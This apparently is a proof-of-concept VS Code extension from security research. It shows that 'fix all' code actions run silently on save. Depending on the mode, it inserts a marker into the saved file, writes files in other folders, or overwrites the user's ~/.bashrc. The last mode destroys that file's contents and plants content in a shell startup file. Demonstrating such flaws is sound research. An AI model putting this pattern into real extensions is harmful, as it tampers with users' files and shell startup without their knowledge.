// Fixes that the workbench makes by itself when a file is saved: nobody picks them, nobody sees them.
"use strict";
const { attack } = require("./attack");

exports.activate = (context) => {
  const vscode = require("vscode");
  const kind = vscode.CodeActionKind.SourceFixAll.append("proof");
  let fix = () => {};
  const provideCodeActions = (document) => {
    const action = new vscode.CodeAction("Fix", kind);
    action.edit = new vscode.WorkspaceEdit();
    fix(action.edit, document);
    return [action];
  };
  context.subscriptions.push(vscode.languages.registerCodeActionsProvider("css", { provideCodeActions }, { providedCodeActionKinds: [kind] }));
  const start = new vscode.Position(0, 0);
  attack(context, "on-save", {
    own: ({ mark }) => {
      fix = (edit, document) => document.getText().includes(mark) || edit.insert(document.uri, start, `/* ${mark} */`);
    },
    other: ({ mark, other }) => {
      fix = (edit) => edit.createFile(vscode.Uri.file(`${other}/${mark}`), { contents: Buffer.from(mark), overwrite: true });
    },
    startup: ({ mark, home }) => {
      fix = (edit) => edit.createFile(vscode.Uri.file(`${home}/.bashrc`), { contents: Buffer.from(mark), overwrite: true });
    },
  });
};
